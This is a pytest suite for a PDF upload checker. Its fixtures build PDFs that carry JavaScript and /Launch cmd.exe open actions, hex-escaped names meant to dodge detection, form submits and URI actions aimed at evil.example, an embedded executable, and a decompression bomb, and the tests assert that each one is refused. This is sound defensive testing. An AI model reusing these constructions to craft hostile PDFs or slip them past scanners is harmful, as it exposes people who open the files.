"""PDFs that run something, or hold other files, are refused however they hide it."""

import zlib
from io import BytesIO

import pypdf
import pytest
from pypdf.generic import (
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from app.documents import pdf
from app.documents.kinds import PDF
from app.errors import Invalid
from tests.documents.conftest import identify

JAVASCRIPT = b"/S /JavaScript /JS (app.alert(1))"


def plain(action: bytes = b"", *, before: bytes = b"") -> bytes:
    """A small whole PDF, with something in its catalogue."""
    parts = [
        before + b"<< /Type /Catalog /Pages 2 0 R " + action + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, part in enumerate(parts, 1):
        places.append(len(made))
        made += b"%d 0 obj\n" % number + part + b"\nendobj\n"
    table = len(made)
    made += b"xref\n0 4\n0000000000 65535 f \n"
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    made += b"trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % table
    return bytes(made)


def packed(action: bytes, *, about: bytes = b"/Type /ObjStm", filters: str = "Flate") -> bytes:
    """A PDF whose catalogue lies packed in a stream, found by a table that is a stream."""
    inner = b"<< /Type /Catalog /Pages 2 0 R " + action + b" >>"
    head = b"1 0 "
    data = zlib.compress(head + inner)
    name = b"/FlateDecode"
    if filters == "ASCIIHex":
        data, name = data.hex().encode() + b">", b"[/ASCIIHexDecode /FlateDecode]"
    made = bytearray(b"%PDF-1.7\n")
    pages = len(made)
    made += b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    container = len(made)
    made += b"4 0 obj\n<< " + about + b" /N 1 /First %d /Filter " % len(head)
    made += name + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream\nendobj\n"
    table = len(made)
    rows = [(0, 0, 0), (2, 4, 0), (1, pages, 0), (0, 0, 0), (1, container, 0), (1, table, 0)]
    listed = b"".join(bytes([kind]) + at.to_bytes(4) + bytes([more]) for kind, at, more in rows)
    made += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R /Length %d >>" % len(listed)
    made += b"\nstream\n" + listed + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table
    return bytes(made)


def written(prepare: str) -> bytes:
    """A PDF as a library makes it."""
    writer, kept = pypdf.PdfWriter(), BytesIO()
    writer.add_blank_page(200, 200)
    if prepare == "script":
        action = {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert(1)")}
        run = DictionaryObject({NameObject(name): value for name, value in action.items()})
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(run)
    if prepare == "address":
        link = {"/S": NameObject("/URI"), "/URI": TextStringObject("http://evil.example")}
        go = DictionaryObject({NameObject(name): value for name, value in link.items()})
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(go)
    if prepare == "file":
        writer.add_attachment("a.exe", b"MZ")
    if prepare == "password":
        writer.encrypt("")
    if prepare == "page":
        content = DecodedStreamObject()
        content.set_data(b"BT (Java Script and /JS on paper) Tj ET")
        writer.pages[0][NameObject("/Contents")] = writer._add_object(content.flate_encode())
        writer.add_metadata({"/Title": "Launch of JavaScript courses"})
        link = DictionaryObject(
            {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("x")}
        )
        writer._add_object(link)
    writer.write(kept)
    return kept.getvalue()


def refusal(content: bytes) -> str:
    with pytest.raises(Invalid) as refused:
        identify(BytesIO(content), "a.pdf", frozenset({PDF}))
    return str(refused.value.message)


@pytest.mark.parametrize(
    "content",
    [
        plain(b"/OpenAction << " + JAVASCRIPT + b" >>"),
        plain(b"/OpenAction << /S /J#61vaScript /JS (x) >>"),
        plain(b"/OpenAction << /S /#4Aav#61Scrip#74/JS (x) >>"),
        plain(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        plain(b"/AcroForm << /XFA 7 0 R >>"),
        plain(b"/OpenAction << " + JAVASCRIPT + b" >>", before=b"% stream\n"),
        packed(b"/OpenAction << " + JAVASCRIPT + b" >>"),
        packed(b"/OpenAction << /S /Launch /F (x) >>", filters="ASCIIHex"),
        packed(b"/OpenAction << " + JAVASCRIPT + b" >>", about=b"/Type /#4fbjStm"),
        packed(b"/OpenAction << " + JAVASCRIPT + b" >>", about=b"/Subtype /Image"),
        written("script"),
    ],
)
def test_it_refuses_what_runs(content: bytes) -> None:
    assert "holds a script, or starts a program" in refusal(content)


URI = b"<< /S /URI /URI (http://evil.example) >>"


@pytest.mark.parametrize(
    "content",
    [
        plain(b"/A << /S /SubmitForm /F (http://evil.example) >>"),
        plain(b"/A << /S /GoTo#52 /F (other.pdf) >>"),
        plain(b"/EF << /FS /URL /F (http://evil.example) >>"),
        plain(b"/OpenAction " + URI),
        plain(b"/AA << /O " + URI + b" >>"),
        packed(b"/A << /S /SubmitForm >>"),
        written("address"),
    ],
)
def test_it_refuses_what_sends_or_fetches_by_itself(content: bytes) -> None:
    assert "sends or fetches something when it is opened" in refusal(content)


@pytest.mark.parametrize(
    "content", [written("file"), packed(b"/Names << /Embedded#46iles 9 0 R >>")]
)
def test_it_refuses_files_inside_files(content: bytes) -> None:
    assert "holds other files" in refusal(content)


def test_it_refuses_what_is_locked() -> None:
    assert "is locked" in refusal(written("password"))


def test_it_refuses_what_it_cannot_look_through() -> None:
    broken = packed(b"").replace(b"/Root 1 0 R", b"/Rxxt 1 0 R").replace(b"startxref", b"startxxxx")
    assert "cannot look through" in refusal(broken.replace(b"/W [1 4 1]", b"/W [9 9 9]"))


def test_it_refuses_what_unpacks_without_end(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pdf, "MOST_OF_ONE", 1000)
    assert "cannot look through" in refusal(packed(b" " * 2000))


def test_many_beginnings_of_streams_cost_no_more_than_the_limit(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Each begins anew, and all unpack the same: what is read counts, not only what comes out."""
    monkeypatch.setattr(pdf, "MOST_OF_ALL", 1 << 20)
    start, nothing = b"stream\nx\x9c", b"\0\0\0\xff\xff"
    hidden = b"\0" + len(start).to_bytes(2, "little") + (65535 - len(start)).to_bytes(2, "little")
    content = b"%PDF-1.7\n" + start + (hidden + start) * 300 + nothing * 20_000 + b"\n%%EOF\n"
    assert "cannot look through" in refusal(content)


@pytest.mark.parametrize("content", [plain(), packed(b""), written("nothing"), written("page")])
def test_it_takes_what_is_only_read(content: bytes) -> None:
    assert identify(BytesIO(content), "a.pdf", frozenset({PDF})) == PDF
